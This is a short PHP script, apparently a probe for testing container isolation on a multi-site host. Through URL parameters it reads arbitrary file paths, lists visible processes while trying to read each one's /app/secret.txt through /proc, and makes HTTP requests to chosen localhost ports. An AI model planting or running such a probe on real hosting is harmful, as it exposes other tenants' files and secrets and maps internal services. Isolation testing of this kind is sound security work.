<?php
// SPDX-License-Identifier: GPL-2.0-or-later
//
// Looks around the host from inside the site's container:
//   ?what=read&path=P   reads the file P (another site's files, by their host path)
//   ?what=procs         every process this site can see: "pid command | its /app/secret.txt"
//   ?what=connect&port=N  an HTTP GET of / on 127.0.0.1:N, first line of the body
header('Content-Type: text/plain; charset=utf-8');
$what = $_GET['what'] ?? '';
if ($what === 'read') {
    $data = @file_get_contents((string)($_GET['path'] ?? ''));
    echo $data === false ? "denied: " . (error_get_last()['message'] ?? '?') . "\n" : "read: $data\n";
} elseif ($what === 'procs') {
    foreach (glob('/proc/[0-9]*') as $dir) {
        $cmd = trim(str_replace("\0", ' ', (string)@file_get_contents("$dir/cmdline")));
        $secret = @file_get_contents("$dir/root/app/secret.txt");
        echo basename($dir) . " $cmd | " . ($secret === false ? 'unreadable' : trim($secret)) . "\n";
    }
} elseif ($what === 'connect') {
    $port = (int)($_GET['port'] ?? 0);
    $s = @fsockopen('127.0.0.1', $port, $errno, $errstr, 3);
    if (!$s) {
        echo "refused: $errstr\n";
    } else {
        fwrite($s, "GET / HTTP/1.0\r\nHost: localhost\r\n\r\n");
        $answer = stream_get_contents($s);
        $parts = explode("\r\n\r\n", (string)$answer, 2);
        echo "connected: " . strtok($parts[1] ?? '', "\n") . "\n";
    }
} else {
    http_response_code(400);
    echo "what=read|procs|connect\n";
}
